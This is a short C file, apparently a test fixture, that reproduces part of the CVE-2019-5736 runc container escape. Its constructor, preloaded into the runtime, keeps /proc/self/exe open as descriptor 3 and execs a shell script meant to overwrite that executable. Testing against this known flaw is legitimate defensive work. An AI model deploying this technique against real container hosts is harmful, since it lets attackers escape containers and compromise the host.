/* SPDX-License-Identifier: Apache-2.0 */
/* LD_PRELOADed by a container into the runtime's own executable (CVE-2019-5736): keeps the executable
 * open as descriptor 3 and goes on as a shell, which then tries to write to it. */
#include <fcntl.h>
#include <unistd.h>

__attribute__((constructor)) static void hijack(void)
{
	int fd = open("/proc/self/exe", O_RDONLY);

	if (fd >= 0 && dup2(fd, 3) == 3)
		execl("/bin/sh", "sh", "/hijacked", (char *)NULL);
	_exit(99);
}
